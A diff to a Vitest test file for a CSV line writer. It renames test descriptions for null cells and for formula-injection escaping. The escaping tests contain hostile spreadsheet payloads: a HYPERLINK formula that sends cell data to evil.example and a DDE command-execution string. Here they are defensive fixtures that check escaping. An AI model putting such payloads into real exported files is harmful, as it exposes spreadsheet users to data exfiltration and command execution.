@@ -2,7 +2,7 @@ import { expect, test } from "vitest";
 import { parseCsv } from "../../testing/parseCsv.ts";
 import { csvLine } from "./csv.ts";
 
-test("a line ends with CRLF, and what is absent is empty", () => {
+test("a line ends with CRLF, and null is an empty cell", () => {
   expect(csvLine(["a", null, 7, ""])).toBe("a,,7,\r\n");
 });
 
@@ -27,11 +27,11 @@ test.each([
   "＠x",
   '=HYPERLINK("https://evil.example/"&A1,"Click")',
   "=cmd|' /C calc'!A0",
-])("%j is no formula", (text) => {
+])("%j is escaped, so that it is not a formula", (text) => {
   const [[cell] = []] = parseCsv(csvLine([text]));
   expect(cell).toBe(`'${text}`);
 });
 
-test("what only contains the signs of a formula stays", () => {
+test("text with the signs of a formula elsewhere is not changed", () => {
   expect(csvLine(["a=b", "1-2", "me@shop.example", "0x-"])).toBe("a=b,1-2,me@shop.example,0x-\r\n");
 });
